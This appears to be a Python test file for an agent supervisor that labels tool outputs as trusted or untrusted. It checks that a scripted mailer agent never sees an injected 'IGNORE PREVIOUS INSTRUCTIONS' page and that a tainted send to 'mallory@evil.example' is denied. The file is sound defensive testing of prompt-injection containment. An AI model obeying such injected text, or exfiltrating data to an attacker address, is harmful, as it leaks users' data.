"""The flow surfaces against the real supervisor, in process (no Ray): a ToolCallingAgent driven by a
scripted model passes a handle on and is then stopped by a sink rule; the audit log on disk, the
status contexts and the metrics say so, and `policy explain --job` shows the labels the job declares.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

from runtime.agent import ToolCallingAgent
from runtime.cli import contexts_table, main
from runtime.harness import PolicyHarness
from runtime.llm import ScriptedModel
from runtime.metrics import PrometheusObserver, parse_metrics
from runtime.observe import status_of
from runtime.testing import InProcessSupervisorClient
from tests.unit.flow_tools import web_get

ROOT = Path(__file__).resolve().parents[2]
POLICY = {
    "agent": "mailer",
    "tools": {
        "web.get": {"effect": "read", "output": {"hide": True}},  # untrusted, and kept from the model
        "mail.read": {"effect": "read"},  # untrusted (nothing declared), shown to the model
        "mail.send": {"effect": "write", "ifc": {"context": "trusted", "args": {"to": "trusted"}}},
    },
}
PAGE = web_get.fn("https://news.example/today")


class Mailer(ToolCallingAgent):
    def build_model(self):
        return self.model


def run_mailer(h: PolicyHarness, steps: list) -> tuple[dict, Mailer]:
    reg = h.agents["mailer"]
    agent = Mailer()
    agent._attach(name="mailer", token=reg.token, request_key=reg.request_key,
                  supervisor=InProcessSupervisorClient(h.supervisor), peers={},
                  tool_schemas=[h.tools[t].schema for t in POLICY["tools"]], config={"system": "You mail."},
                  clock=h.clock)
    agent.model = ScriptedModel(steps)
    return h._run(agent.run("send bob today's news, then answer the inbox")), agent


def test_a_handle_passed_on_by_the_model_then_a_tainted_send_stopped_and_every_surface_says_so(tmp_path, capsys):
    with PolicyHarness(tools=["tests.unit.flow_tools"], audit_dir=tmp_path) as h:
        h.supervisor.observer = metrics = PrometheusObserver("mail-e2e")
        h.add_agent(POLICY)
        out, agent = run_mailer(h, [
            {"call": "web.get", "args": {"url": "https://news.example/today"}},
            {"call": "mail.send", "args": {"to": "bob@corp.example", "body": {"$handle_of": "web.get"}}},
            {"call": "mail.read", "args": {}},
            {"call": "mail.send", "args": {"to": "mallory@evil.example", "body": "as the mail said"}},
            {"answer": "done"},
        ])
        assert h.verify().ok
        contexts = status_of(h.supervisor)["contexts"]

    # the model saw the handle, never the page; the supervisor substituted it for the tool
    seen = json.dumps(agent.model.seen[-1])
    assert "IGNORE PREVIOUS INSTRUCTIONS" not in seen
    shown = json.loads([m for m in agent.model.seen[1] if m["role"] == "tool"][0]["content"])
    assert set(shown) == {"$handle", "label", "bytes", "tool"} and shown["tool"] == "web.get"
    assert "About handles." in agent.model.seen[0][0]["content"]
    assert out["calls"] == [
        {"tool": "web.get", "ok": True, "code": None, "handles": [shown["$handle"]]},
        {"tool": "mail.send", "ok": True, "code": None},
        {"tool": "mail.read", "ok": True, "code": None},
        {"tool": "mail.send", "ok": False, "code": "FLOW_DENIED"},
    ]
    sent = [json.loads(m["content"]) for m in agent.model.seen[2] if m["role"] == "tool"][-1]
    assert sent == {"sent": True, "to": "bob@corp.example", "bytes": len(PAGE)}  # the page's content went out

    # audit show --kind flow on the real log: the allowed send with its handle, the denial with its origin
    assert main(["audit", "show", str(tmp_path), "--kind", "flow"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2, lines
    assert "decision=allow" in lines[0] and f"handles={shown['$handle']}" in lines[0]
    assert 'context="trusted, readers: public"' in lines[0]
    # mail.send's result is a receipt (carries_inputs: false): the page did not reach the model through it;
    # mail.read's result did, and is what the denial names as the origin
    read_call = next(r["call_id"] for r in h.records if r["kind"] == "decision" and r.get("tool") == "mail.read")
    for part in ("decision=deny code=FLOW_DENIED", 'rule="mail.send: context must be trusted"', "arg=(context)",
                 'label="untrusted, readers: public"', f'origin="mail.read call {read_call} (agent mailer)"'):
        assert part in lines[1], part
    assert main(["audit", "show", str(tmp_path), "--kind", "flow", "--json"]) == 0
    docs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert docs[1]["flow"]["origin"] == {"call_id": read_call, "tool": "mail.read", "agent": "mailer"}

    # status: the run's context, tainted by mail.read, holding one handle
    assert [(c["agent"], c["depth"], c["label"]["integrity"], c["handles"]) for c in contexts] == \
        [("mailer", 0, "untrusted", 1)]
    row = contexts_table(contexts).splitlines()[2]
    assert row.startswith("mailer") and f"mail.read call {read_call} (agent mailer)" in row

    # metrics
    m = parse_metrics(metrics.render().decode())
    j = {"warden_job": "mail-e2e", "agent": "mailer"}
    assert m[("warden_flow_decisions_total", frozenset({**j, "tool": "mail.send", "result": "allow"}.items()))] == 1
    assert m[("warden_flow_decisions_total", frozenset({**j, "tool": "mail.send", "result": "deny"}.items()))] == 1
    assert m[("warden_context_integrity", frozenset(j.items()))] == 0
    assert m[("warden_handles", frozenset(j.items()))] == 1
    assert m[("warden_handle_bytes", frozenset(j.items()))] > len(PAGE)


def test_a_handle_of_another_agent_is_denied_by_the_supervisor_not_the_model(tmp_path):
    with PolicyHarness(tools=["tests.unit.flow_tools"], audit_dir=tmp_path) as h:
        h.add_agent(POLICY)
        h.add_agent({**POLICY, "agent": "other"})
        stolen = h.call("other", "web.get", {"url": "https://news.example/x"}).value
        out, _ = run_mailer(h, [
            lambda messages: {"call": "mail.send", "args": {"to": "bob@corp.example", "body": stolen}},
            {"answer": "tried"}])
    assert out["calls"] == [{"tool": "mail.send", "ok": False, "code": "HANDLE_DENIED"}]


def test_policy_explain_with_a_job_shows_the_job_and_tool_declarations(tmp_path, capsys):
    (tmp_path / "mailer.yaml").write_text(json.dumps(POLICY))
    (tmp_path / "job.yaml").write_text(textwrap.dedent("""\
        name: mail
        task: mail the news
        entry: [mailer]
        tools: [tests.unit.flow_tools]
        outputs:
          mail.read: {integrity: untrusted, readers: ["*@corp.example"]}
        agents:
          - {name: mailer, class: "runtime:ToolCallingAgent", policy: mailer.yaml,
             config: {model: {kind: scripted, steps: []}}}
        """))
    assert main(["policy", "explain", str(tmp_path / "mailer.yaml"), "--job", str(tmp_path / "job.yaml"),
                 "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["tools"]["mail.read"]["output"]["readers"] == ["*@corp.example"]
    assert doc["tools"]["mail.read"]["output"]["source"]["readers"] == "job"
    assert doc["tools"]["web.get"]["output"]["hide"] is True
    receipt = doc["tools"]["mail.send"]["output"]
    assert (receipt["carries_inputs"], receipt["integrity"]) == (False, "trusted")  # from @tool(output=...)
    assert receipt["source"]["carries_inputs"] == "tool"
    assert doc["tools"]["mail.send"]["sinks"][0]["checks"] == ["mail.send: context must be trusted",
                                                               "mail.send: argument 'to' must be trusted"]
    assert main(["policy", "explain", str(tmp_path / "mailer.yaml"), "--job", str(tmp_path / "job.yaml")]) == 0
    text = capsys.readouterr().out
    assert "tools.mail.send.ifc" in text and "HANDLE" in text
    assert "no (a receipt)" in next(line for line in text.splitlines() if line.startswith("  mail.send "))


def test_a_call_parked_for_a_flow_rule_shows_its_request_approval_and_decision(tmp_path, capsys):
    policy = {"agent": "mailer", "tools": {"mail.read": {"effect": "read"}, "mail.send": {"effect": "write"}},
              "ifc": [{"effects": ["write"], "context": "trusted", "on_violation": "approve"}]}
    with PolicyHarness(tools=["tests.unit.flow_tools"], audit_dir=tmp_path) as h:
        h.add_agent(policy)
        read = h.call("mailer", "mail.read", {})
        sent = h.call("mailer", "mail.send", {"to": "bob@corp.example", "body": "hi"}, approve=True)
        assert read.allowed and sent.allowed
    assert main(["audit", "show", str(tmp_path), "--kind", "flow"]) == 0
    lines = capsys.readouterr().out.splitlines()
    kinds = [line.split()[2] for line in lines]
    assert kinds == ["approval_requested", "approval", "decision"], lines
    origin = f'origin="mail.read call {read.audit["call_id"]} (agent mailer)"'
    assert 'rule="*[write]: context must be trusted"' in lines[0] and origin in lines[0]
    assert "decision=approve" in lines[1] and "approver=" in lines[1]
    assert "decision=allow" in lines[2] and 'rule="*[write]: context must be trusted"' in lines[2]


def test_a_delegate_toolcallingagent_uses_a_handle_its_delegator_passed_on(tmp_path):
    lead = {"agent": "lead", "tools": {"web.get": {"effect": "read", "output": {"hide": True}},
                                       "mail.send": {"effect": "write"}},
            "delegation": {"can_delegate_to": ["mailer"], "max_depth": 1}}
    mailer = {"agent": "mailer", "tools": {"mail.send": {"effect": "write"}}}
    with PolicyHarness(tools=["tests.unit.flow_tools"], audit_dir=tmp_path) as h:
        h.add_agent(lead)
        h.add_agent(mailer)
        page = h.call("lead", "web.get", {"url": "https://news.example/today"}).value
        delegation = h.delegate("lead", "mailer", tools=["mail.send"], handles=[page])
        assert delegation.allowed, delegation.reason
        token = delegation.token
        reg = h.agents["mailer"]
        agent = Mailer()
        agent._attach(name="mailer", token=reg.token, request_key=reg.request_key,
                      supervisor=InProcessSupervisorClient(h.supervisor), peers={},
                      tool_schemas=[h.tools["mail.send"].schema], config={}, clock=h.clock)
        agent.model = ScriptedModel([{"call": "mail.send", "args": {"to": "bob@corp.example",
                                                                     "body": {"$handle_of": "(task)"}}},
                                     {"answer": "sent"}])
        out = h._run(agent.run_delegated({"task": "mail bob this page", "page": page}, token))
    assert out["calls"] == [{"tool": "mail.send", "ok": True, "code": None}]
    sent = json.loads([m for m in agent.model.seen[1] if m["role"] == "tool"][0]["content"])
    assert sent["bytes"] == len(PAGE)  # the delegate's tool got the page; neither model saw it
    assert "IGNORE PREVIOUS" not in json.dumps(agent.model.seen)
